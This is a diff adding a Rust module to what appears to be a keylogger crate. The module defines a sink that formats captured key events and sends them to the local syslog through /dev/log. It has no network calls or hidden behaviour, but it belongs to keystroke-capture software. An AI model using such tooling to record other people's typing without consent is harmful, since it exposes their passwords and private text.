@@ -0,0 +1,65 @@
+use std::os::unix::net::UnixDatagram;
+
+use crate::keyboard::KeyEvent;
+use crate::sink::{format_event_in, KeyEventSink, Timezone};
+use crate::KeyloggerResult;
+
+/// The socket the system logger listens on.
+const SYSLOG_SOCKET: &str = "/dev/log";
+/// The `user` syslog facility.
+const LOG_USER: u8 = 1;
+/// The `info` syslog severity.
+const LOG_INFO: u8 = 6;
+
+/// A sink that sends the events to the system logger (via `/dev/log`).
+///
+/// Each event is logged as a separate message, with the `user` facility and `info` severity.
+#[derive(Debug)]
+pub struct SyslogSink {
+    socket: UnixDatagram,
+    ident: String,
+    tz: Timezone,
+}
+
+impl SyslogSink {
+    /// Connect to the system logger. The messages are tagged with the name `keylogger`.
+    pub fn new() -> KeyloggerResult<Self> {
+        let socket = UnixDatagram::unbound()?;
+
+        socket.connect(SYSLOG_SOCKET)?;
+
+        Ok(Self {
+            socket,
+            ident: "keylogger".into(),
+            tz: Timezone::Naive,
+        })
+    }
+
+    /// Tag the messages with the specified name instead of `keylogger`.
+    pub fn with_ident(mut self, ident: &str) -> Self {
+        self.ident = ident.into();
+        self
+    }
+
+    /// Format the timestamps of the events in the specified timezone (see [`Timezone`]).
+    pub fn timezone(mut self, tz: Timezone) -> Self {
+        self.tz = tz;
+        self
+    }
+}
+
+impl KeyEventSink for SyslogSink {
+    fn write_event(&mut self, ev: &KeyEvent) -> KeyloggerResult<()> {
+        let msg = format!(
+            "<{}>{}[{}]: {}",
+            LOG_USER * 8 + LOG_INFO,
+            self.ident,
+            std::process::id(),
+            format_event_in(ev, self.tz)
+        );
+
+        self.socket.send(msg.as_bytes())?;
+
+        Ok(())
+    }
+}